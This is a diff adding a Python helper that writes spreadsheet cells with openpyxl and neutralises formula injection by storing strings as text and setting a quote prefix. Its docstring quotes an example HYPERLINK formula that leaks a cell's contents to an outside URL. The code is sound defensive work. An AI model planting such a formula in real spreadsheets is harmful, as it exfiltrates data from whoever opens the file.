@@ -1,0 +1,25 @@
+"""Every cell of every workbook dondoc writes goes through `put`: what a person typed is stored as text.
+
+openpyxl stores a string that starts with "=" as a formula, and Excel or LibreOffice would evaluate it when the
+coordinator opens the file (`=HYPERLINK("http://…/?leak="&B2, …)` in a progress report). Here every string is a
+string cell, and one that starts like a formula (=, +, -, @, tab, CR) also carries Excel's quote prefix, so the
+cell stays text when someone edits it. Numbers and dates stay numbers and dates. dondoc writes no formulas.
+"""
+
+from __future__ import annotations
+
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def put(ws, row: int, column: int, value, style: str | None = None):
+    """Write one cell (and its named style) and return it."""
+    cell = ws.cell(row=row, column=column)
+    cell.value = value
+    if style is not None:
+        cell.style = style  # before the quote prefix: a named style replaces the cell's whole style
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if value.startswith(FORMULA_LEADS):
+            cell.quotePrefix = True
+    return cell
+
